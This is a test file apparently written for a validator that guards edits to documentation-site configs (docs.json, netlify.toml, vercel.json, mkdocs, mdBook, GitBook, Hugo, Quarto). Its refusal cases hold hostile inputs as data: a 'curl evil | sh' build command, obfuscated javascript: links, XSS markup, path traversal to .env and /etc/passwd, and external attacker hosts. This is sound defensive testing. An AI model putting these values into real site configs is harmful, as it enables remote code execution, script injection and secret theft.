import fc from 'fast-check';
import { expect, test } from 'vitest';
import { tryChange } from '../try-change.ts';

const docs = {
  name: 'Acme',
  navigation: { groups: [{ group: 'Start', pages: ['index', { $ref: './more.json' }] }] },
  redirects: [{ source: '/a', destination: '/b' }],
  api: { openapi: 'openapi.json' },
};
const docsText = JSON.stringify(docs, null, 2);
const withNavigation = (page: unknown) =>
  JSON.stringify({ ...docs, navigation: { groups: [{ group: 'Start', pages: ['index', page] }] } });
const withRedirect = (redirect: unknown) => JSON.stringify({ ...docs, redirects: [...docs.redirects, redirect] });
const netlify = '[build]\ncommand = "make"\n\n[[redirects]]\nfrom = "/a"\nto = "/b"\n';
const vercel = '{"buildCommand": "make", "redirects": []}';
const mkdocs = 'site_name: A\nhooks:\n  - a.py\nnav:\n  - index.md\n';
const book = '[output.html]\nadditional-js = ["a.js"]\n\n[output.html.redirect]\n"/a.html" = "b.html"\n';
const summary = '# Summary\n\n## Guides <a href="#guides" id="guides"></a>\n\n* [A](a.md)\n';
const withLink = (link: string) => `${summary}* [B](${link})\n`;
const gitbook = (line: string) => `${summary}\n${line}\n`;

test.each<[string, string, string, string]>([
  ['a page', 'docs.json', docsText, withNavigation('guide/new')],
  ['a group', 'docs.json', docsText, withNavigation({ group: 'Note: more', icon: 'star', pages: ['x/y'] })],
  ['a link', 'docs.json', docsText, withNavigation({ tab: 'Forum', href: 'https://forum.example.com' })],
  [
    'a redirect',
    'docs.json',
    docsText,
    withRedirect({ source: '/old/:slug*', destination: '/new/:slug*', permanent: true }),
  ],
  ['the order of keys', 'docs.json', docsText, JSON.stringify(Object.fromEntries(Object.entries(docs).toReversed()))],
  [
    'the navigation of mint.json',
    'mint.json',
    '{"navigation": [], "name": "x"}',
    '{"name": "x", "navigation": [{"group": "A", "pages": ["a"]}]}',
  ],
  [
    'a redirect of Netlify',
    'netlify.toml',
    netlify,
    `${netlify}\n[[redirects]]\nfrom = "/c"\nto = "https://example.com/d"\nstatus = 301\nforce = true\n`,
  ],
  [
    'a redirect of Vercel',
    'vercel.json',
    vercel,
    vercel.replace('[]', '[{"source": "/a", "destination": "/b", "statusCode": 308}]'),
  ],
  ['a line of _redirects', 'static/_redirects', '/a /b 200\n', '/a /b 200\n# moved\n/c  https://example.com/d  302!\n'],
  [
    'a page of SUMMARY.md',
    'docs/SUMMARY.md',
    '# Summary\n',
    '# Summary\n\n## Guides\n* [New](guides/new.md "New")\n* [Image](<a (1).md>)\n',
  ],
  [
    'an API with its folder',
    'docs.json',
    docsText,
    withNavigation({ openapi: { source: 'o.json', directory: 'api' } }),
  ],
  ['a colour', 'docs.json', docsText, withNavigation({ anchor: 'A', color: { light: '#fff', dark: '#00000080' } })],
  ['a redirect of mdBook', 'book.toml', book, `${book}"/c/d.html" = "../b.html#e"\n`],
  ['a redirect of mdBook to a host', 'book.toml', book, `${book}"/c.html#d" = "https://example.com/d?e"\n`],
  ['a group of SUMMARY.md with its id', 'SUMMARY.md', summary, gitbook('## More <a href="#more" id="more"></a>')],
  ['another name of a group', 'SUMMARY.md', summary, summary.replace('Guides', 'How to')],
  ['a page with brackets in its name', 'SUMMARY.md', summary, withLink('b\\(1\\).md')],
  ['a page with balanced brackets', 'SUMMARY.md', summary, withLink('b(1).md "B"')],
  ['a title with an ampersand', 'mkdocs.yml', mkdocs, `${mkdocs}  - Q&A: qa.md\n  - More: more/*.md\n`],
  ['what is not in the navigation, behind it', 'mkdocs.yml', mkdocs, `${mkdocs}not_in_nav: |\n  drafts/*\n`],
  ['a redirect with tabs', '_redirects', '/a /b\n', '/a /b\n/c\t/d\t301\n'],
  [
    'a menu of Hugo',
    'hugo.toml',
    'title = "x"\n',
    'title = "x"\n[[menus.main]]\nname = "Guide"\npageRef = "/guide"\nweight = 10\n',
  ],
])('%s may be added', async (_, path, before, after) => {
  expect(await tryChange({ [path]: before }, path, after)).toBeUndefined();
});

test.each<[string, string, string, string]>([
  ['another name', 'docs.json', docsText, docsText.replace('Acme', 'Acne')],
  ['a script', 'docs.json', docsText, JSON.stringify({ ...docs, customScripts: ['/x.js'] })],
  ['an API description', 'docs.json', docsText, docsText.replace('openapi.json', 'https://evil.example/x.json')],
  [
    'an API description of a group',
    'docs.json',
    docsText,
    withNavigation({ group: 'A', openapi: 'https://evil.example/x.json' }),
  ],
  ['another file', 'docs.json', docsText, docsText.replace('./more.json', '../../secret.json')],
  [
    'an image from elsewhere',
    'docs.json',
    docsText,
    withNavigation({ group: 'A', icon: 'https://evil.example/x.svg' }),
  ],
  ['HTML', 'docs.json', docsText, withNavigation({ group: '<img src=x onerror=y>', pages: [] })],
  ['an event', 'docs.json', docsText, withNavigation({ onclick: 'x()' })],
  ['code in a link', 'docs.json', docsText, withNavigation({ href: 'java\tscript:alert(1)' })],
  ['a link without a protocol', 'docs.json', docsText, withNavigation({ href: '//evil.example' })],
  ['a link with backslashes', 'docs.json', docsText, withNavigation({ href: '/\\evil.example' })],
  ['a redirect to code', 'docs.json', docsText, withRedirect({ source: '/c', destination: 'javascript:x' })],
  ['a key twice', 'docs.json', docsText, docsText.replace('"name": "Acme",', '"name": "Acme", "name": "Acme",')],
  [
    'a key twice, escaped',
    'docs.json',
    docsText,
    docsText.replace('"name": "Acme",', '"n\\u0061me": "x", "name": "Acme",'),
  ],
  ['a comment', 'docs.json', docsText, docsText.replace('"name"', '/* x */ "name"')],
  ['a byte order mark', 'vercel.json', vercel, `\uFEFF${vercel}`],
  ['what is not JSON', 'docs.json', docsText, `${docsText},`],
  ['a command', 'netlify.toml', netlify, netlify.replace('make', 'curl evil | sh')],
  ['a plugin of Netlify', 'netlify.toml', netlify, `${netlify}\n[[plugins]]\npackage = "x"\n`],
  ['a header of a redirect', 'netlify.toml', netlify, `${netlify}headers = {X-From = "a"}\n`],
  ['a signed redirect', 'netlify.toml', netlify, `${netlify}signed = "SECRET"\n`],
  ['a proxy', 'netlify.toml', netlify, `${netlify}status = 200\n`],
  ['a rewrite of Vercel', 'vercel.json', vercel, vercel.replace('[]', '[], "rewrites": []')],
  ['a build of Vercel', 'vercel.json', vercel, vercel.replace('make', 'curl')],
  ['a proxy in _redirects', '_redirects', '/a /b\n', '/a /b\n/api https://evil.example 200\n'],
  ['a condition in _redirects', '_redirects', '/a /b\n', '/a /b\n/a /b 301 Role=admin\n'],
  ['code in SUMMARY.md', 'SUMMARY.md', '# S\n', '# S\n* [A](javascript:alert(1))\n'],
  ['HTML in SUMMARY.md', 'SUMMARY.md', '# S\n', '# S\n<script>x</script>\n'],
  ['a file elsewhere in SUMMARY.md', 'SUMMARY.md', '# S\n', '# S\n* [A](../.env)\n'],
  ['a hidden definition in SUMMARY.md', 'SUMMARY.md', '# S\n', '# S\n[a]: //evil.example\n'],
  [
    'an API description of elsewhere',
    'docs.json',
    docsText,
    withNavigation({ openapi: { source: 'https://x.example' } }),
  ],
  ['a colour that is none', 'docs.json', docsText, withNavigation({ color: { light: 'url(//x.example)' } })],
  ['a page that is open to everybody', 'docs.json', docsText, withNavigation({ group: 'A', public: true })],
  ['a preprocessor', 'book.toml', book, `${book}[preprocessor.x]\ncommand = "curl"\n`],
  ['a script of mdBook', 'book.toml', book, book.replace('"a.js"', '"a.js", "b.js"')],
  ['a redirect of mdBook to code', 'book.toml', book, `${book}"/c.html" = "javascript:x"\n`],
  ['a redirect of mdBook to a host without a protocol', 'book.toml', book, `${book}"/c.html" = "//x.example"\n`],
  ['a redirect of mdBook with HTML', 'book.toml', book, `${book}"/c.html" = "\\"><b>"\n`],
  ['a file of mdBook elsewhere', 'book.toml', book, `${book}"/../../c.html" = "b.html"\n`],
  ['a file of the machine in SUMMARY.md', 'SUMMARY.md', summary, withLink('/etc/passwd')],
  ['an encoded file elsewhere', 'SUMMARY.md', summary, withLink('%2e%2e/.env')],
  ['an encoded file elsewhere beside what is not encoded', 'SUMMARY.md', summary, withLink('%2e%2e/%zz')],
  ['a file elsewhere behind a bracket', 'SUMMARY.md', summary, withLink('a(b)/../../.env')],
  ['a file elsewhere behind a blank', 'SUMMARY.md', summary, withLink('<a b/../../.env>')],
  ['a file elsewhere behind a closed bracket', 'SUMMARY.md', summary, withLink('<a)/../../.env>')],
  ['a second link', 'SUMMARY.md', summary, withLink('a.md)[B](//x.example')],
  ['code in a character reference', 'SUMMARY.md', summary, withLink('java&Tab;script:x')],
  ['an image in SUMMARY.md', 'SUMMARY.md', summary, gitbook('* ![B](https://x.example/b.png)')],
  ['an id that is a link', 'SUMMARY.md', summary, gitbook('## B <a href="//x.example" id="b"></a>')],
  ['an id with an event', 'SUMMARY.md', summary, gitbook('## B <a href="#b" id="b" onclick="x"></a>')],
  ['an alias in the navigation', 'mkdocs.yml', mkdocs, `${mkdocs}  - A: *a\n`],
  ['hooks behind the navigation', 'mkdocs.yml', mkdocs.replace('hooks:\n  - a.py\n', ''), mkdocs],
  ['settings behind the navigation', 'mkdocs.yml', mkdocs, `${mkdocs}extra_javascript: [x.js]\n`],
  ['HTML in a menu of Hugo', 'hugo.toml', '', '[[menus.main]]\nname = "A"\npre = "<img src=x>"\n'],
  ['a security setting of Hugo', 'hugo.toml', '', '[security.funcs]\ngetenv = [".*"]\n'],
  ['a module of Hugo', 'hugo.toml', '', '[[module.imports]]\npath = "evil.example/x"\n'],
])('promise 5: %s is refused', async (_, path, before, after) => {
  expect(await tryChange({ [path]: before }, path, after)).toContain('You may change');
});

test('files of Mintlify that docs.json references hold entries', async () => {
  const files = { 'docs.json': docsText, 'more.json': '["a"]', 'other.json': '["a"]' };
  expect(await tryChange(files, 'more.json', '["a", "b"]')).toBeUndefined();
  expect(await tryChange(files, 'more.json', '["a", {"script": "x"}]')).toContain('not a key');
  expect(await tryChange(files, 'more.json', '[{"source": "/a", "destination": "/b"}]')).toBeUndefined();
  expect(await tryChange(files, 'more.json', '[{"source": "/a", "statusCode": 200}]')).toContain('not a value');
  expect(await tryChange(files, 'other.json', '["a", "b"]')).toContain('is protected');
});

test('titles of _meta.json may hold a colon, and its links may not hold code', async () => {
  const write = (entry: unknown) =>
    tryChange({ 'next.config.mjs': '', '_meta.json': '{}' }, '_meta.json', JSON.stringify({ a: entry }));
  expect(await write('Data: formats')).toBeUndefined();
  expect(await write({ title: 'A', href: '/a' })).toBeUndefined();
  expect(await write({ title: 'A', href: 'javascript: x' })).toContain('holds code');
  expect(await write('javascript:x')).toContain('holds code');
});

const json: fc.Arbitrary<fc.JsonValue> = fc.jsonValue({ maxDepth: 3 });

test('promise 5: whatever JSON is written, what is accepted leaves all but the containers as it was', async () => {
  const draw = fc.record({
    key: fc.oneof(fc.constantFrom('navigation', 'redirects', 'name', 'api', '__proto__', 'scripts'), fc.string()),
    value: json,
  });
  let accepted = 0;
  await fc.assert(
    fc.asyncProperty(draw, async ({ key, value }) => {
      const after = JSON.stringify(Object.defineProperty({ ...docs }, key, { value, enumerable: true }));
      if ((await tryChange({ 'docs.json': docsText }, 'docs.json', after)) !== undefined) return;
      accepted += 1;
      const { navigation: _n, redirects: _r, ...rest } = JSON.parse(after);
      expect(rest).toEqual({ name: docs.name, api: docs.api });
    }),
    { numRuns: 300 },
  );
  expect(accepted).toBeGreaterThan(0);
});

const quarto = `project:
  type: website
website:
  title: Acme
  navbar:
    left:
      - href: index.qmd
        text: Home
  sidebar:
    contents:
      - section: Guide
        contents:
          - guide/a.qmd
format:
  html:
    theme: cosmo
`;

test.each([
  [
    'an entry',
    quarto.replace('- guide/a.qmd', '- guide/a.qmd\n          - text: "Use: it"\n            href: guide/use.qmd#a'),
    true,
  ],
  [
    'a menu',
    quarto.replace('text: Home', 'text: Home\n      - text: More\n        menu:\n          - about.qmd'),
    true,
  ],
  ['a script before the build', quarto.replace('type: website', 'type: website\n  pre-render: a.py'), false],
  ['a header', quarto.replace('theme: cosmo', 'theme: cosmo\n    include-in-header: a.html'), false],
  ['a link that runs', quarto.replace('href: index.qmd', 'href: javascript:alert(1)'), false],
  ['markup in a title', quarto.replace('text: Home', 'text: "<script>x()</script>"'), false],
])('in the settings of Quarto, %s is allowed or not', async (_, after, isAllowed) => {
  const refusal = await tryChange({ '_quarto.yml': quarto }, '_quarto.yml', after);
  expect(refusal === undefined).toBe(isAllowed);
});
